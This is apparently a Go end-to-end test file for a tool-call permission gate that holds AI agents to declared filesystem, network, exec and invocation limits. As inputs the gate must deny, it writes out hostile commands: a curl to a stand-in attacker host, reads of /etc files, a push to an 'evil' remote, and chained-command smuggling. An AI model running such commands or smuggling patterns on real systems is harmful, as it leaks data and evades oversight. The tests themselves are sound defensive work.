package e2e_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/seed-3ebc6b8a/gatehouse/internal/admin"
	"github.com/seed-3ebc6b8a/gatehouse/internal/api"
	"github.com/seed-3ebc6b8a/gatehouse/internal/client"
	"github.com/seed-3ebc6b8a/gatehouse/internal/gate"
	"github.com/seed-3ebc6b8a/gatehouse/test/gatetest"
)

// lenient is a policy that lets a hook's tools go ahead.
const lenient = `version = 1
profile = "open"
[profiles.open]
base = "supervised"
[profiles.open.classes]
unknown = "AUTO_APPROVE"
network = "AUTO_APPROVE"
mutating = "AUTO_APPROVE"
[profiles.open.capabilities]
"fs.read" = "AUTO_APPROVE"
"fs.write" = "AUTO_APPROVE"
"net.egress" = "AUTO_APPROVE"
"proc.exec" = "AUTO_APPROVE"
[risk]
confirm_at = 101
irreversible = "AUTO_APPROVE"
`

// declaring starts a gate with a policy that lets everything through and
// declarations of tools.
func declaring(t *testing.T, tools string) (w *world, dir string, in func(operation, args string) *api.CallRequest) {
	t.Helper()
	w = beginWith(t, lenient)
	before := w.settle("known", func(admin.Policy) bool { return true })
	write(t, filepath.Join(w.Home, "tools.yaml"), "gatehouse: 1\n"+tools)
	p := w.settle("declared", func(p admin.Policy) bool { return p.Hash != before.Hash || len(p.Broken) > 0 })
	if len(p.Broken) > 0 || p.Staged != nil {
		t.Fatalf("the declarations are not in force: %+v", p)
	}
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return w, dir, func(operation, args string) *api.CallRequest {
		c := callOf(operation, args)
		c.Kind, c.Dir = "external", dir
		return c
	}
}

// beyond submits a call that must be denied by its declaration.
func (w *world) beyond(in *api.CallRequest) {
	w.t.Helper()
	if got := w.submit(in); got.Verdict != gate.Denied || !strings.Contains(got.Message, "beyond what the tool declares") {
		w.t.Errorf("%s %s: %s: %s", in.Operation, in.Args, got.Verdict, got.Message)
	}
}

// TestDeclaredHostTools: a host's own tool that is declared under any of its
// names is held to it, by what the gate knows it does.
func TestDeclaredHostTools(t *testing.T) {
	t.Parallel()
	w, dir, in := declaring(t, `tools:
  - name: Write
    policy: {risk: medium, filesystem: {write: ["./out/**"]}}
  - name: Bash
    policy:
      risk: high
      filesystem: {read: ["./**"], write: ["./out/**"]}
      network: [api.example.com:443]
      exec: [git, cat, curl, cp, echo]
`)
	for _, sub := range []string{"out", "src"} {
		if err := os.Mkdir(filepath.Join(dir, sub), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("/etc", filepath.Join(dir, "out", "etc")); err != nil {
		t.Fatal(err)
	}
	bash := func(line string) *api.CallRequest { return in("Bash", `{"command":"`+line+`"}`) }
	w.done(w.want(gate.Allowed, in("Write", `{"file_path":"`+dir+`/out/a","content":"x"}`)))
	w.done(w.want(gate.Allowed, bash("cat src/a")))
	w.beyond(in("Write", `{"file_path":"`+dir+`/src/a","content":"x"}`))
	w.beyond(in("write_file", `{"path":"src/a","content":"x"}`)) // another host's name for it
	w.beyond(in("Write", `{"file_path":"out/etc/x","content":"x"}`))
	w.beyond(bash("echo x > src/a"))
	w.beyond(bash("cat /etc/hosts"))
	w.beyond(bash("cp src/a /tmp/b"))
	w.beyond(bash("curl https://evil.example.net/x"))
	w.beyond(bash("wget -qO- https://api.example.com/x")) // a host that is declared, a program that is not
	w.beyond(bash("./out/git status"))                    // not the git that was named
	w.beyond(bash("cat src/a; $X"))
}

// TestDeclaredCommandLines: a declared command line holds every command that
// begins like it, wherever it stands in a line and however it is wrapped.
func TestDeclaredCommandLines(t *testing.T) {
	t.Parallel()
	w, _, in := declaring(t, `tools:
  - name: render
    command: [render, --to, "{out}", "{in}"]
    policy: {risk: low, filesystem: {read: ["./in/**"], write: ["./out/**"]}, network: none, exec: [render]}
    arguments: {in: read, out: write}
    constraints: {maxInvocations: 1}
  - name: push
    command: [git, push, origin, "{branch}"]
    policy: {risk: medium, exec: [git]}
`)
	bash := func(line string) *api.CallRequest { return in("Bash", `{"command":"`+line+`"}`) }
	w.done(w.want(gate.Allowed, bash("render --to out/a in/b")))
	for _, line := range []string{
		"render --to ../a in/b", "render --to out/a /etc/passwd", "render --to in/b in/b", // beyond its files
		"render --fast --to out/a in/b", "render --to=out/a in/b", "render in/b", // other words than those declared
		"true && render --to /etc/x in/b", "env A=1 render --to /etc/x in/b", "sh -c 'render --to /etc/x in/b'", "xargs render --to /etc/x",
		"/usr/local/bin/render --to out/a in/b", // not the program that was declared
		"render --to $OUT in/b",
		"git push evil main", "git -C . push evil main", "git push --force origin main",
	} {
		w.beyond(bash(line))
	}
	if got := w.submit(bash("render --to out/a in/b")); got.Verdict != gate.Denied || !strings.Contains(got.Message, "may run 1 times") {
		t.Errorf("the second run: %s", got.Message)
	}
	// Another directory, a sub-agent and a new session wash nothing off.
	elsewhere := bash("render --to out/a in/b")
	elsewhere.Dir, elsewhere.Path = t.TempDir(), "helper"
	if got := w.submit(elsewhere); got.Verdict != gate.Denied || !strings.Contains(got.Message, "may run 1 times") {
		t.Errorf("from another directory: %s", got.Message)
	}
}

// TestDeclaredByAProject: what a project declares holds in it as soon as it is
// seen, and what it takes back waits until an approver trusts the file.
func TestDeclaredByAProject(t *testing.T) {
	t.Parallel()
	w, dir, in := declaring(t, "tools:\n  - {name: unrelated}\n")
	file := filepath.Join(dir, ".gatehouse.tools.yaml")
	read := in("Read", `{"file_path":"`+dir+`/src/a"}`)
	w.done(w.want(gate.Allowed, read))
	write(t, file, "gatehouse: 1\ntools:\n  - {name: Read, policy: {filesystem: {read: [./docs/**]}}}\n")
	w.beyond(read)
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	w.beyond(read)
	write(t, file, "gatehouse: 1\ntools:\n  - {name: Read, policy: {filesystem: {read: [./**]}}}\n")
	w.beyond(read)
	code := w.factor()
	w.do("POST", "/v1/policy/trust", &api.TrustRequest{Path: file, Code: code.next()}, nil)
	w.done(w.want(gate.Allowed, read))
	// No agent writes it.
	if got := w.submit(in("Write", `{"file_path":"`+file+`","content":"gatehouse: 1"}`)); got.Verdict != gate.Denied {
		t.Errorf("an agent writes the project's declarations: %s", got.Message)
	}
}

// TestDeclaredAgents: an agent with grants uses the declared tools it was
// granted, and asks for those that need a yes.
func TestDeclaredAgents(t *testing.T) {
	t.Parallel()
	w, _, in := declaring(t, `tools:
  - {name: free_tool}
  - {name: asked_tool}
  - {name: other_tool}
agents:
  - {name: coder, tools: [free_tool, asked_tool], grants: {allow: [free_tool], confirm: [asked_tool], confirmWith: person}}
`)
	w.done(w.want(gate.Allowed, in("free_tool", `{}`)))
	if got := w.submit(in("asked_tool", `{}`)); got.Verdict != gate.Pending {
		t.Errorf("asked_tool: %s", got.Message)
	}
	if got := w.submit(in("other_tool", `{}`)); got.Verdict != gate.Denied || !strings.Contains(got.Message, "was not granted to coder") {
		t.Errorf("other_tool: %s", got.Message)
	}
}

// TestForceAtStep: the call with that number must be of that tool.
func TestForceAtStep(t *testing.T) {
	t.Parallel()
	w, _, in := declaring(t, `tools:
  - {name: a_tool}
  - {name: b_tool, constraints: {forceAtStep: 2}}
`)
	w.done(w.want(gate.Allowed, in("a_tool", `{}`)))
	if got := w.submit(in("a_tool", `{}`)); got.Verdict != gate.Denied || !strings.Contains(got.Message, "call 2 must be of b_tool") {
		t.Errorf("a_tool: %s", got.Message)
	}
	w.done(w.want(gate.Allowed, in("b_tool", `{}`)))
	w.done(w.want(gate.Allowed, in("a_tool", `{}`)))
}

// TestForceAtStepOfADeclaredAgent: of an agent that is declared every call is a
// step, so that no tool that nobody declared goes first.
func TestForceAtStepOfADeclaredAgent(t *testing.T) {
	t.Parallel()
	w, _, in := declaring(t, `tools:
  - {name: plan_tool, constraints: {forceAtStep: 1}}
agents:
  - {name: coder, tools: [plan_tool]}
`)
	for _, c := range []*api.CallRequest{in("Bash", `{"command":"ls"}`), in("nobody_declared_it", `{}`), as("helper", in("nobody_declared_it", `{}`))} {
		if got := w.submit(c); got.Verdict != gate.Denied || !strings.Contains(got.Message, "call 1 must be of plan_tool") {
			t.Errorf("%s came first: %s", c.Operation, got.Message)
		}
	}
	w.done(w.want(gate.Allowed, in("plan_tool", `{}`)))
	w.done(w.want(gate.Allowed, in("nobody_declared_it", `{}`)))
}

// TestConstraintsHoldOverNodes: of twenty calls that come at once on two nodes
// of one database, no more run than the declaration says.
func TestConstraintsHoldOverNodes(t *testing.T) {
	t.Parallel()
	n := beginTwo(t, func(a, b *gatetest.Gate) {
		for _, g := range []*gatetest.Gate{a, b} {
			write(t, policyOf(g), lenient)
			write(t, filepath.Join(g.Home, "tools.yaml"), "gatehouse: 1\ntools:\n  - {name: limited_tool, constraints: {maxInvocations: 3}}\n")
		}
	})
	onB := n.b.Client(n.token)
	for _, c := range []*client.Client{n.agent, onB} {
		submit(t, c, callOf("list_elements", "")) // so that there is a session
	}
	var wg sync.WaitGroup
	var allowed atomic.Int32
	for i := range 20 {
		c := n.agent
		if i%2 == 1 {
			c = onB
		}
		wg.Go(func() {
			in := callOf("limited_tool", fmt.Sprintf(`{"n":%d}`, i))
			in.Kind = "external"
			out := &api.CallResponse{}
			if err := c.Do(context.Background(), "POST", "/v1/calls", in, out); err != nil {
				t.Error(err)
			}
			if out.Verdict == gate.Allowed {
				allowed.Add(1)
			}
		})
	}
	wg.Wait()
	if allowed.Load() != 3 {
		t.Errorf("%d calls ran of a tool that may run 3 times", allowed.Load())
	}
}
